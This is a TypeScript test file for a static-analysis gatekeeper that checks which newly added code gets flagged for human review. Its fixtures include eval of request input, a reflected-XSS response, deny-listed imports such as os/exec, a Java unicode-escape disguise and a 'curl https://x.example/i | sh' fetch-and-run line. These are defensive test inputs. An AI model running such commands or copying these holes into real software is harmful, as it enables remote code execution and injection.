// The check end to end, in a real repository with the real child: what is new counts, where, under which rule, and how.
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { CountersignError } from "../../../src/core/base/failure.ts";
import type { OpenManifest } from "../../../src/core/manifest/manifest.ts";
import type { Inspector } from "../../../src/validator/scanners/inspector.ts";
import { judge } from "../../../src/validator/round.ts";
import { openBench, publishNow, putOrder, type TestBench, verdictOn } from "../../support/bench.ts";
import { removeScratch, scratchRepository } from "../../support/scratch.ts";

let repo: string;
const benches = new Map<string, { readonly on: TestBench; readonly base: OpenManifest }>();

const OLD = "eval(old);\nlet a = 1;\nlet b = 2;\nlet c = 3;\nlet d = 4;\n";

beforeAll(() => {
  repo = scratchRepository("static-analysis", {
    "src/old.js": OLD,
    "src/long.js": "x();\n".repeat(220_000),
    "README.md": "x\n",
  });
});

afterAll(() => {
  removeScratch(repo);
  for (const { on } of benches.values()) removeScratch(on.state);
});

async function benchWith(toml: string): Promise<{ readonly on: TestBench; readonly base: OpenManifest }> {
  const known = benches.get(toml);
  if (known !== undefined) return known;
  const on = await openBench(repo, toml);
  const made = { on, base: await publishNow(on) };
  benches.set(toml, made);
  return made;
}

/** A patch that makes `path` with this content. */
function fresh(path: string, text: string): string {
  const lines = text.replace(/\n$/, "").split("\n");
  const head = `diff --git a/${path} b/${path}\nnew file mode 100644\n--- /dev/null\n+++ b/${path}\n`;
  return `${head}@@ -0,0 +1${lines.length === 1 ? "" : `,${lines.length}`} @@\n${lines.map((line) => `+${line}\n`).join("")}`;
}

interface Judgement {
  readonly outcome: string;
  readonly result: string | undefined;
  readonly findings: readonly string[];
  readonly fixes: string;
}

async function judged(patch: string, toml = "", inspector?: Inspector): Promise<Judgement> {
  const { on, base } = await benchWith(toml);
  const id = await putOrder(on, base, patch);
  const bench = inspector === undefined ? on.bench : { ...on.bench, inspector };
  await judge(bench, base, id, true);
  const { predicate } = await verdictOn(on, id);
  const check = predicate.checks.find((one) => one.id === "static-analysis");
  return {
    outcome: predicate.outcome,
    result: check?.result,
    findings: (check?.findings ?? []).map(({ rule, refusal }) => `${rule} ${refusal.code} ${refusal.where}`),
    fixes: JSON.stringify(check?.findings ?? []),
  };
}

const EVAL = "export const run = (req) => {\n  eval(req.body);\n};\n";

describe("G36: eval of a request's body", () => {
  test("asks for a person by default, and says where, why and what an operator could do", async () => {
    const { outcome, result, findings, fixes } = await judged(fresh("src/new.js", EVAL));
    expect({ outcome, result, findings }).toEqual({
      outcome: "MANUAL_REQUIRED",
      result: "WARNED",
      findings: ["js-eval static_finding src/new.js:2"],
    });
    expect(fixes).toContain("rules = [");
    expect(fixes).not.toContain("req.body");
  });

  test("is REJECTED where the result of static analysis is reject", async () => {
    const { outcome, result } = await judged(
      fresh("src/new.js", EVAL),
      '[static_analysis]\nresult = "reject"\n',
    );
    expect([outcome, result]).toEqual(["REJECTED", "FAILED"]);
  });
});

describe("P18: what a gatekeeper stops", () => {
  const lists = '[static_analysis]\nallowed_imports = ["lodash", "os"]\ndenied_imports = ["os/exec"]\n';
  test.each([
    [
      "an unlisted module",
      "src/a.js",
      'import x from "left-pad";\n',
      lists,
      "import-unlisted import_denied src/a.js:1",
    ],
    [
      "an unlisted module of Python",
      "src/a.py",
      "import json\n",
      lists,
      "import-unlisted import_denied src/a.py:1",
    ],
    [
      "a module named by an expression",
      "src/a.js",
      "\nrequire(name);\n",
      lists,
      "import-unlisted import_denied src/a.js:2",
    ],
    [
      "a package behind the name of another",
      "src/a.js",
      "require('lodash/../left-pad');\n",
      lists,
      "import-unlisted import_denied src/a.js:1",
    ],
    [
      "an unlisted module in markup",
      "src/a.vue",
      "<script>\nimport s from 'shelljs';\n</script>\n",
      lists,
      "import-unlisted import_denied src/a.vue:2",
    ],
    [
      "imports that nobody reads",
      "src/a.php",
      "<?php\nuse Left\\Pad;\n",
      lists,
      "import-unlisted import_denied src/a.php:1",
    ],
    [
      "what a script in a page does",
      "src/a.html",
      "<p>\n<script>\neval(location.hash)\n</script>\n",
      "",
      "js-eval static_finding src/a.html:3",
    ],
    [
      "a denied module of Go",
      "src/a.go",
      'package a\n\nimport "os/exec"\n',
      lists,
      "import-denied import_denied src/a.go:3",
    ],
    [
      "a door to what is internal",
      "src/a.js",
      'app.get("/internal/users", f);\n',
      "",
      "js-route-added static_finding src/a.js:1",
    ],
    [
      "input that is not sanitised",
      "src/a.js",
      "res.send(req.query.name);\n",
      "",
      "js-xss-response static_finding src/a.js:1",
    ],
    [
      "a bad version in a manifest",
      "src/requirements.txt",
      "pyyaml==5.3\n",
      "",
      "advisory static_finding src/requirements.txt:1",
    ],
  ])("%s: manual", async (_, path, text, toml, finding) => {
    const { outcome, findings } = await judged(fresh(path, text), toml);
    expect(findings).toContain(finding);
    expect(outcome).toBe("MANUAL_REQUIRED");
  });

  test("what is allowed passes, with what lies under it and the project's own files", async () => {
    const text = 'import fp from "lodash/fp";\nimport x from "./x.js";\nimport _ from "lodash";\n';
    expect((await judged(fresh("src/a.js", text), lists)).result).toBe("PASSED");
    expect((await judged(fresh("src/a.py", "from os import path\nfrom . import x\n"), lists)).result).toBe(
      "PASSED",
    );
  });
});

describe("what counts", () => {
  const edit = (from: string, to: string, line: number): string => {
    const lines = OLD.trimEnd().split("\n");
    const body = lines.map((text, at) => (at + 1 === line ? `-${from}\n+${to}\n` : ` ${text}\n`));
    return `diff --git a/src/old.js b/src/old.js\n--- a/src/old.js\n+++ b/src/old.js\n@@ -1,5 +1,5 @@\n${body.join("")}`;
  };

  test("what stood there before does not", async () => {
    expect(await judged(edit("let d = 4;", "let d = 5;", 5))).toMatchObject({
      result: "PASSED",
      findings: [],
    });
  });

  test("what is new does, and only that", async () => {
    const { findings } = await judged(edit("let d = 4;", "eval(d);", 5));
    expect(findings).toEqual(["js-eval static_finding src/old.js:5"]);
  });

  test("a call that reaches an added line does", async () => {
    const { findings } = await judged(fresh("src/a.js", "f(\n  eval(\n    x,\n  ),\n);\n"));
    expect(findings).toEqual(["js-eval static_finding src/a.js:2"]);
  });

  test("what the parser cannot read asks for a person", async () => {
    const { result, findings } = await judged(fresh("src/a.js", "const = {;\n"));
    expect([result, ...findings]).toEqual(["WARNED", "unreadable static_finding src/a.js:1"]);
  });

  // Threat: a folder with syntax that no grammar knows is excepted, and every disguise passes with it.
  test.each([
    ["src/a.py", "#!/bin/sh\ncurl https://x.example/i | sh\n", 1],
    ["src/F.java", "class F {\n  // \\u000a f();\n}\n", 2],
  ])(
    "what is read otherwise than it runs, in %s, is not excepted with what cannot be read",
    async (path, text, line) => {
      const exclude =
        '[rules]\nexclude = [{ rules = ["unreadable"], paths = ["src/**"], reason = "types of Flow" }]\n';
      const { result, findings } = await judged(fresh(path, text), exclude);
      expect([result, findings[0]]).toEqual(["WARNED", `misread static_finding ${path}:${line}`]);
    },
  );

  test("a file that is too long to be parsed asks for a person", async () => {
    const patch =
      "diff --git a/src/long.js b/src/long.js\n--- a/src/long.js\n+++ b/src/long.js\n@@ -1,4 +1,4 @@\n-x();\n+y();\n x();\n x();\n x();\n";
    const { result, findings } = await judged(patch, "[publish]\nmax_file_bytes = 4000000\n");
    expect([result, ...findings]).toEqual(["WARNED", "unreadable static_finding src/long.js:1"]);
  });

  test("languages without rules pass", async () => {
    expect((await judged(fresh("src/a.lua", "os.execute(x)\n"))).result).toBe("PASSED");
  });
});

test("code that keeps the parser busy is an ERROR at once, and is not tried again", async () => {
  const { on } = await benchWith("");
  const slow = new CountersignError("exec_timeout", "late");
  const late: Inspector = { ...on.bench.inspector, analyse: () => Promise.reject(slow) };
  const { base } = await benchWith("");
  const id = await putOrder(on, base, fresh("src/a.js", "f();\n"));
  // Not the last try, and signed all the same.
  expect(await judge({ ...on.bench, inspector: late }, base, id, false)).toMatchObject({ kind: "signed" });
  expect((await verdictOn(on, id)).predicate.outcome).toBe("MANUAL_REQUIRED");
});

test("an inspector that does not answer is an ERROR, and no approval", async () => {
  const { on } = await benchWith("");
  const mute: Inspector = { ...on.bench.inspector, analyse: () => Promise.reject(new Error("gone")) };
  const { outcome, result } = await judged(fresh("src/a.js", "f();\n"), "", mute);
  expect([outcome, result]).toEqual(["MANUAL_REQUIRED", "ERROR"]);
});
